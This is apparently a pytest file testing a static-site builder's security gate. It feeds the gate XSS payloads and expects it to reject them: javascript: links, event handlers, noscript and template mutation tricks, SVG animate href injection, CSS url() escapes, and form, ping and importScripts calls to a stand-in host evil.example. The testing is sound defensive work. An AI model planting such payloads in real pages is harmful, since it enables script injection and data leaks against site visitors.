"""The final gate (rulesmith/site/gate.py): what was built, judged as readers get it.

Each kind of finding on a small hand-made site, exactly; then the gate holding alone: content with
a `javascript:` link built with the check and the sanitizer both switched off is refused by the
gate, which names the content file and line, and the old site stays as it was.
"""

from __future__ import annotations

import io
from typing import TYPE_CHECKING

import pytest
from conftest import build_site
from gamekit import write_game

from rulesmith.problems import BuildError
from rulesmith.site import csp, gate
from rulesmith.site.notfound import portable

if TYPE_CHECKING:
    from pathlib import Path

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>T</title>
<script>!function(root){{root.classList.replace("no-js","js"),root.classList.add("js-focus-visible"),root.setAttribute("data-js-focus-visible","")}}(document.documentElement)</script>
<script id="__config" type="application/json">{{"base": ".."}}</script>
<link rel="stylesheet" href="{root}assets/site.css"><script defer src="{root}assets/site.js"></script>
</head><body><article id="top">{body}</article></body></html>"""


def site_of(tmp_path: Path, **pages: str) -> Path:
    site = tmp_path / "site"
    (site / "assets").mkdir(parents=True)
    (site / "assets" / "site.css").write_text("")
    (site / "assets" / "site.js").write_text("")
    for name, body in pages.items():
        path = site / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(csp.with_policy(PAGE.format(body=body, root="../" * name.count("/"))))
    return site


def found(site: Path) -> list[tuple[str, str]]:
    return [(f.output, f.what) for f in gate.findings(site)]


def test_a_site_of_the_themes_own_markup_and_working_links_passes(tmp_path):
    site = site_of(tmp_path, **{"index.html": '<a href="a/b.html#x">b</a> <a href="https://example.org/">out</a>',
                                "a/b.html": '<h2 id="x">X</h2><a href="../index.html#top">home</a>'})
    assert found(site) == []


def test_every_kind_of_finding_on_a_page(tmp_path):
    body = ('<a href="javascript:alert(1)">j</a><img src="x.png" onerror="alert(2)">'
            '<a href="data:text/html,x">d</a><img src="https://tracker.example.com/p.png">'
            '<script src="https://cdn.example.com/x.js"></script><iframe src="inner.html"></iframe>'
            '<script>alert(3)</script><script type="application/json">{oops</script>'
            '<a href="missing.html">m</a><a href="index.html#nowhere">n</a><a href="../../etc/passwd">p</a>'
            '<meta http-equiv="refresh" content="0;url=https://example.org">')
    site = site_of(tmp_path, **{"index.html": body})
    (site / "x.png").write_bytes(b"")
    assert found(site) == [
        ("index.html", "a javascript address in a href"),
        ("index.html", "an event attribute 'onerror'"),
        ("index.html", "a data address in a href"),
        ("index.html", "a resource from another site in img src"),
        ("index.html", "a resource from another site in script src"),
        ("index.html", "a <iframe> element"),
        ("index.html", "an inline script that is not one of the theme's"),
        ("index.html", "a JSON data block that does not parse"),
        ("index.html", "a refresh <meta> element"),
        ("index.html", "a link to a file the site does not have: inner.html"),
        ("index.html", "a link to a file the site does not have: missing.html"),
        ("index.html", "a link to an anchor the page does not have: index.html#nowhere"),
        ("index.html", "a link out of the site: ../../etc/passwd"),
    ]


def test_the_404_pages_own_script_passes_and_a_changed_one_does_not(tmp_path):
    site = site_of(tmp_path, **{"404.html": "Not found"})
    page = site / "404.html"
    page.write_text(csp.with_policy(portable(csp.META.sub("", page.read_text())), base=True))
    assert found(site) == []
    page.write_text(csp.with_policy(csp.META.sub("", page.read_text()).replace(
        "location.href.replace", "alert(1)||location.href.replace"), base=True))
    assert found(site) == [("404.html", "an inline script that is not one of the theme's")]


def test_a_page_without_its_policy_first_is_refused(tmp_path):
    site = site_of(tmp_path, **{"index.html": "", "late.html": ""})
    (site / "index.html").write_text(csp.META.sub("", (site / "index.html").read_text()))
    late = (site / "late.html").read_text()
    policy = csp.META.search(late).group(0)
    (site / "late.html").write_text(late.replace(policy, "").replace("</head>", policy + "</head>"))
    assert found(site) == [("index.html", "a page without its Content-Security-Policy first in <head>"),
                           ("late.html", "a page without its Content-Security-Policy first in <head>")]


def test_a_search_index_that_is_more_than_its_data_is_refused(tmp_path):
    site = site_of(tmp_path, **{"index.html": ""})
    (site / "search").mkdir()
    (site / "search" / "good.js").write_text('rulesmithSearch.add({"game":"good"});\n')
    (site / "search" / "bad.js").write_text('rulesmithSearch.add({"game":"bad"});alert(1);\n')
    assert found(site) == [("search/bad.js", "a search index that is not one JSON value")]


def _pdf_with_link(uri: str) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)))
    pdf.pages[0].obj["/Annots"] = pdf.make_indirect(pikepdf.Array([link]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_a_pdf_link_annotation_to_anything_but_https_is_refused(tmp_path):
    site = site_of(tmp_path, **{"index.html": ""})
    (site / "downloads").mkdir()
    (site / "downloads" / "good.pdf").write_bytes(_pdf_with_link("https://example.org/changelog.html"))
    (site / "downloads" / "bad.pdf").write_bytes(_pdf_with_link("javascript:alert(1)"))
    assert found(site) == [("downloads/bad.pdf", "a link annotation to javascript:alert(1)")]


def test_unchanged_pages_are_read_from_the_cache_and_a_changed_one_again(tmp_path):
    site = site_of(tmp_path, **{"index.html": "fine", "other.html": "fine"})
    cache = tmp_path / "cache"
    cache.mkdir()
    assert gate.findings(site, cache) == []
    (site / "other.html").write_text(csp.with_policy(PAGE.format(body='<a href="javascript:x()">x</a>', root="")))
    assert [f.what for f in gate.findings(site, cache)] == ["a javascript address in a href"]


def test_an_unchanged_chart_is_read_from_the_cache_a_changed_one_again_and_never_as_a_page(tmp_path):
    """An SVG file's findings are kept by its bytes with the pages' (an incremental build reads
    only the charts that changed); a page and a chart of the same bytes are each read their way."""
    site = site_of(tmp_path, **{"index.html": "fine"})
    cache = tmp_path / "cache"
    cache.mkdir()
    ns = 'xmlns="http://www.w3.org/2000/svg"'
    (site / "chart.svg").write_text(f"<svg {ns}><text>fine</text></svg>")
    assert gate.findings(site, cache) == []
    (site / "chart.svg").write_text(f'<svg {ns} onload="alert(1)"><text>fine</text></svg>')
    assert [(f.output, f.what) for f in gate.findings(site, cache)] == [("chart.svg", "an event attribute 'onload'")]
    (site / "page.svg").write_bytes((site / "index.html").read_bytes())  # a page's bytes, read as an SVG file
    uncached = [(f.output, f.what) for f in gate.findings(site)]
    assert any(output == "page.svg" for output, _ in uncached)  # HTML is not an SVG file that parses
    assert [(f.output, f.what) for f in gate.findings(site, cache)] == uncached


@pytest.mark.site
def test_the_gate_alone_stops_a_javascript_link_past_a_switched_off_check(tmp_path, monkeypatch):
    """Each layer holds alone: with the check and the sanitizer both made to pass everything, the
    built page would carry a live javascript: link; the gate refuses the build, names the content
    file and line it came from, and the site on disk is left as it was."""
    from rulesmith.text import html as text_html

    content = write_game(tmp_path / "project")
    rules = content / "mini" / "rules.yaml"
    rules.write_text("sections:\n  - id: planted\n    title: Planted\n    module: base\n"
                     "    body: \"Tap [here](javascript:alert(107)) to see.\"\n")
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("the old site")
    monkeypatch.setattr(text_html, "judge", lambda _text: [])
    monkeypatch.setattr(text_html, "sanitize", lambda html: html)
    with pytest.raises(BuildError) as error:
        build_site(content, site, tmp_path / "work")
    message = str(error.value)
    assert "a javascript address in a href" in message
    assert "mini/rules.yaml:5:" in message  # the content file and line that produced it
    assert (site / "index.html").read_text() == "the old site"


# ---- the gate alone judges what a browser parses (issue 46): each payload fed to it directly

EVIL = "https://evil.example"


@pytest.mark.unit
@pytest.mark.parametrize("body, expected", [
    # a browser that runs scripts reads <noscript> as text up to the first </noscript: the <img> is live
    ('<noscript><p title="</noscript><img src=x.png onerror=alert(1)>"></noscript>',
     ["an event attribute 'onerror'"]),
    # and one that does not reads it as markup
    (f'<noscript><img src="{EVIL}/p.png"></noscript>', ["a resource from another site in img src"]),
    ('<template><img src="x.png" onerror="alert(1)"></template>', ["an event attribute 'onerror'"]),
    ('<template><template><a href="javascript:alert(1)">x</a></template></template>',
     ["a javascript address in a href"]),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
     ["an SVG <animate> that sets 'href'"]),
    ('<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
     ["an SVG <set> that sets 'xlink:href'"]),
    ('<svg><animate attributeName="onbegin" to="alert(1)"/></svg>', ["an SVG <animate> that sets 'onbegin'"]),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["a javascript address in a xlink:href"]),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["a javascript address in mi xlink:href"]),
    ('<svg><script>alert(1)</script></svg>', ["an inline script that is not one of the theme's"]),
    (f'<style>@import url({EVIL}/x.css);</style>', ["a resource from another site in style text url()"]),
    (f'<style>@import "{EVIL}/y.css";</style>', ["a resource from another site in style text url()"]),
    (f'<style>p {{ background: image-set("{EVIL}/i.png" 1x) }}</style>',
     ["a resource from another site in style text url()"]),
    (f'<p style="background:url({EVIL}/p.png)">x</p>', ["a resource from another site in p style url()"]),
    (f'<p style="background:u\\72l({EVIL}/q.png)">x</p>', ["a resource from another site in p style url()"]),
    ('<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>', ["a javascript address in p style url()"]),
    (f'<link rel="dns-prefetch" href="{EVIL}">', ["a resource from another site in link href"]),
    (f'<link rel="preconnect" href="{EVIL}">', ["a resource from another site in link href"]),
    (f'<form action="{EVIL}/f"><input name="q"></form>', ["a place another site is sent to in form action"]),
    (f'<form><button formaction="{EVIL}/f">go</button></form>',
     ["a place another site is sent to in button formaction"]),
    (f'<a href="index.html" ping="{EVIL}/p">x</a>', ["a place another site is sent to in a ping"]),
])
def test_the_gate_alone_refuses_what_a_browser_would_run_or_fetch(tmp_path, body, expected):
    site = site_of(tmp_path, **{"index.html": body})
    (site / "x.png").write_bytes(b"")
    assert [what for _, what in found(site)] == expected


@pytest.mark.unit
def test_the_gate_passes_styles_that_load_nothing_from_elsewhere(tmp_path):
    site = site_of(tmp_path, **{"index.html": (
        '<style>:root{--icon:url("data:image/svg+xml;charset=utf-8,<svg/>")} p{background:url(x.png)}</style>'
        '<p style="color:red">x</p><form><input name="q"></form><a href="index.html" ping="index.html">y</a>')})
    assert found(site) == []


@pytest.mark.unit
def test_every_svg_file_of_the_site_is_judged(tmp_path):
    site = site_of(tmp_path, **{"index.html": ""})
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    (site / "chart.svg").write_text(f'<svg {ns}><g><text>fine</text></g><a xlink:href="#n"><text>n</text></a></svg>')
    (site / "bad.svg").write_text(f'<svg {ns} onload="alert(1)"><script>alert(2)</script>'
                                  f'<a xlink:href="javascript:alert(3)"><text>x</text></a>'
                                  f'<animate attributeName="href" to="javascript:alert(4)"/></svg>')
    (site / "broken.svg").write_text("<svg><g></svg>")
    assert [(name, what.split(" (")[0]) for name, what in found(site)] == [
        ("bad.svg", "an event attribute 'onload'"),
        ("bad.svg", "an inline script that is not one of the theme's"),
        ("bad.svg", "a javascript address in a xlink:href"),
        ("bad.svg", "an SVG <animate> that sets 'href'"),
        ("broken.svg", "an SVG file that does not parse"),
    ]


@pytest.mark.unit
def test_the_offline_worker_must_be_its_template_with_json_values(tmp_path):
    from rulesmith.site.webapp import fill_script, worker_template

    site = site_of(tmp_path, **{"index.html": ""})
    (site / "good").mkdir()
    (site / "bad").mkdir()
    good = fill_script(worker_template(), GAME="good", VERSION="1.0", LABEL='a "label"; alert(1)', FILES=["a.html"])
    (site / "good" / "sw.js").write_text(good)
    (site / "bad" / "sw.js").write_text(good.replace('var FILES = ["a.html"];', 'var FILES = ["a.html"]; importScripts("https://evil.example/x.js");'))
    assert found(site) == [("bad/sw.js", "an offline worker that is not its template with JSON values filled in")]


@pytest.mark.unit
def test_a_page_too_large_to_load_is_refused_unread(tmp_path):
    site = site_of(tmp_path, **{"index.html": "x" * (gate.MAX_PAGE_BYTES + 1)})
    assert found(site) == [("index.html", "a page of 20.0 MB, more than a reader's browser should load (at most 20 MB)")]
